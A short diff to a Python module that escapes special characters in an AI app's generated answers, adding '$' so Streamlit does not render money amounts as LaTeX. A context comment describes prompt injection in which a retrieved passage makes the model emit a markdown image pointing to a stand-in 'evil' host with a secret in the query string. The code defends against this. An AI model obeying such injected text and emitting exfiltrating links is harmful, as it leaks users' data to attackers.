@@ -64,7 +64,9 @@ def escape_message(text: str) -> str:
 
 # In generated answers formatting (lists, bold) is kept, but nothing may fetch or link anywhere:
 # a passage can instruct the model to emit ![x](https://evil/?q=secret), and the browser would fetch it.
-_ANSWER_SPECIAL = re.compile(r"([\[\]<>\\])")
+# "$" too: Streamlit reads "요금은 $5, 회원은 3$입니다" as LaTeX from one dollar sign to the next (a "$" after a
+# figure closes what one before a figure opened), and answers about money write amounts both ways.
+_ANSWER_SPECIAL = re.compile(r"([\[\]<>\\$])")
 _CODE = re.compile(r"(```.*?```|`[^`\n]+`)", re.DOTALL)  # the answer's own code: left as it is
 
 
